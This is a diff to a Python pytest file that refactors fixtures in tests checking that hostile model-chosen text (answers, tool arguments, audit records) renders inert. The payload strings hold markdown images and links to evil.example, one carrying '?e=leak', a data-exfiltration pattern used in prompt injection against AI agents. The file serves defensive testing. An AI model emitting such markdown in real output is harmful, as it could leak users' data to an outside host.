@@ -80,7 +80,8 @@ def test_hostile_answer_renders_inert(
         assert_inert(markdown, HOSTS)
 
 
-def test_hostile_tool_arguments_render_inert_in_steps(attack, world: World) -> None:
+@pytest.mark.usefixtures("world")
+def test_hostile_tool_arguments_render_inert_in_steps(attack) -> None:
     """Arguments the model chose appear in the live step lines (ToolStarted args)."""
     payload = "![x](http://evil.example/p.png) [a](http://evil.example) <img src=x>"
     result = attack(
@@ -99,6 +100,7 @@ def test_hostile_tool_arguments_render_inert_in_steps(attack, world: World) -> N
 PAYLOAD = "![x](http://evil.example/p.png?e=leak) <img src=http://evil.example/i.png>"
 
 
+@pytest.mark.usefixtures("world")
 @pytest.mark.parametrize(
     "call",
     [
@@ -108,7 +110,7 @@ PAYLOAD = "![x](http://evil.example/p.png?e=leak) <img src=http://evil.example/i
     ids=["ticket number", "escalation summary"],
 )
 def test_tool_argument_text_in_audit_records_renders_inert(
-    attack, world: World, session: Session, call: tuple[str, dict[str, Any]]
+    attack, session: Session, call: tuple[str, dict[str, Any]]
 ) -> None:
     """The Audit page shows a record's message, action, rule and before/after as Markdown;
     the model's text lands there (an InvalidInput quoting its argument, a stored summary)."""
